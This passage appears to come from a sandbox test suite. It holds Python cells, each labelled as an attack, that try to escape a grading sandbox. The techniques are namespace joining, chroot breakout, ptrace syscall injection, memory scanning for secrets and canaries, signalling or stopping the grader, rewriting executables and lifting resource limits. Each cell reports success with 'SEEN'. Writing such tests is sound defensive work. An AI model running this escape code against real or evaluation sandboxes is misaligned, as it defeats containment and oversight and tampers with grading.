        print("SEEN", link)

# %% attack="abstract sockets of the machine" cold=true
import socket

for name in ("\0ABSTRACT", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus"):
    try:
        link = socket.socket(socket.AF_UNIX)
        link.connect(name)
        print("SEEN")
    except OSError:
        pass
for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_INET):
    try:
        raw = socket.socket(family, socket.SOCK_RAW, 0)
        raw.close()
        print("SEEN" if family != socket.AF_NETLINK else "")
    except OSError:
        pass

# %% attack="a server waits for the grader"
import socket

server = socket.create_server(("0.0.0.0", 0))
server.setblocking(False)

# %% attack="namespaces are joined and left" cold=true
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
before = {name: os.readlink(f"/proc/self/ns/{name}") for name in os.listdir("/proc/self/ns")}
for path in glob.glob("/proc/[0-9]*/ns/*"):
    try:
        libc.setns(os.open(path, os.O_RDONLY), 0)
    except OSError:
        pass
for pid in range(1, 100):
    pidfd = libc.syscall(434, pid, 0)
    for kind in (0x20000, 0x20000000, 0x40000000, 0x10000000, 0x7E020000):
        libc.setns(pidfd, kind)
for kind in (0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000):
    if libc.unshare(kind) == 0:
        print("SEEN", hex(kind))
for name, space in before.items():
    if name not in ("user", "mnt") and os.readlink(f"/proc/self/ns/{name}") != space:
        print("SEEN", name)
for path in ("SECRET", "COURSE/source"):
    if os.path.exists(path):
        print("SEEN")

# %% attack="the root is left through what is open" cold=true
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in range(-200, 1024):
    if libc.fchdir(number) == 0:
        print("SEEN", number)
for place in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/tmp", "/"):
    try:
        folder = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    os.makedirs("/tmp/below", exist_ok=True)
    libc.chroot(b"/tmp/below")
    os.fchdir(folder)
    for _ in range(50):
        os.chdir("..")
    libc.chroot(b".")
    for path in ("SECRET", "COURSE/source", "/root/.bashrc", "/var/lib/dpkg"):
        if os.path.exists(path) or os.path.exists(path.lstrip("/")):
            print("SEEN", place, path)
os.chdir("/home/learner")

# %% attack="the program that runs is changed on the disk" cold=true
import glob
import os

changes = {
    "mode": lambda path: os.chmod(path, 0o6777),
    "times": lambda path: os.utime(path, (0, 0)),
    "owner": lambda path: os.chown(path, os.getuid(), -1),
    "attributes": lambda path: os.setxattr(path, "user.seen", b"x"),
    "content": lambda path: open(path, "r+b").write(b"x"),
    "size": lambda path: os.truncate(path, 0),
    "name": lambda path: os.link(path, "/home/learner/linked"),
}
hold = os.open("/proc/self/exe", os.O_PATH)
for path in (*glob.glob("/proc/[0-9s]*/exe"), f"/proc/self/fd/{hold}", *glob.glob("/proc/self/map_files/*")):
    for name, change in changes.items():
        try:
            change(path)
            print("SEEN", path, name)
        except OSError:
            pass

# %% attack="the grader is reached through its end of the socket" cold=true
import ctypes
import os
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
pid, user, group = struct.unpack("3i", end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
if pid:
    print("SEEN", pid)
try:
    pidfd = end.getsockopt(socket.SOL_SOCKET, 77)
except OSError:
    pidfd = -1
if pidfd >= 0:
    for signal in (0, 15, 9):
        if libc.syscall(424, pidfd, signal, 0, 0) == 0:
            print("SEEN a signal")
    for descriptor in range(100):
        if libc.syscall(438, pidfd, descriptor, 0) >= 0:
            print("SEEN a descriptor")
    for kind in (0x20000, 0x10000000, 0x20000000, 0x40000000, 0x7E020000):
        if libc.setns(pidfd, kind) == 0:
            print("SEEN a namespace")

# %% attack="what was before the fork is looked for"
import gc
import re
import socket

secret = re.compile("CANAR[Y]|onl[y] the grader|nearest[_]level")  # a pattern does not find itself
for each in [*gc.get_objects(), *gc.get_referents(*gc.get_objects())]:
    if isinstance(each, (str, bytes)) and secret.search(each if isinstance(each, str) else each.decode("latin-1")):
        print("SE" + "EN", each[:100])
    if isinstance(each, socket.socket) and each.type == socket.SOCK_SEQPACKET and each.fileno() >= 0:
        print("SE" + "EN", each)
secret = re.compile(secret.pattern.encode())
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        place, rights, *_ = line.split()
        start, stop = (int(number, 16) for number in place.split("-"))
        if rights.startswith("rw") and stop < 2**63:
            try:
                memory.seek(start)
                if found := secret.search(memory.read(stop - start)):
                    print("SE" + "EN", found)
            except OSError:
                pass

# %% attack="memory is taken in the name of the one that holds the walls" cold=true
import ctypes
import os
import platform
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes, libc.ptrace.restype = [ctypes.c_long] * 4, ctypes.c_long
registers = (ctypes.c_ulonglong * 27)()
there = ctypes.addressof(registers)
for pid in [pid for pid in range(1, 100) if pid != os.getpid() and platform.machine() == "x86_64"]:
    if libc.ptrace(16, pid, 0, 0) == 0:
        os.waitpid(pid, 0)
        libc.ptrace(12, pid, 0, there)
        # mmap(0, 700 MiB, to read and write, shared and filled at once)
        registers[10], registers[14], registers[13], registers[12], registers[7] = 9, 0, 700 * 2**20, 3, 0x8021
        registers[9] = registers[15] = 2**64 - 1
        registers[8] = 0
        registers[16] -= 2
        libc.ptrace(13, pid, 0, there)
        libc.ptrace(9, pid, 0, 0)
        os.waitpid(pid, 0)
        time.sleep(1)
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("RssShmem") and int(line.split()[1]) > 600_000:
                print("SE" + "EN", line)

# %% attack="the one that holds the walls is stopped and made to wait" cold=true
import os
import signal

for pid in range(1, 1000):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass

# %% attack="the walls' own process is told to say something" cold=true
import glob
import os

for path in glob.glob("/proc/[0-9]*/fd/*"):
    if path.split("/")[2] != str(os.getpid()):
        try:
            os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'{"child-pid": 1}.' * 10_000)
        except OSError:
            pass
        try:
            os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 10_000)
        except OSError:
            pass

# %% attack="all processors, all priorities" cold=true
import os
import time

for change in (
    lambda: os.nice(-20),
    lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
):
    try:
        change()
        print("SEEN")
    except OSError:
        pass
import resource

for name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_CPU"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("SEEN", name)
    except (OSError, ValueError):
        pass
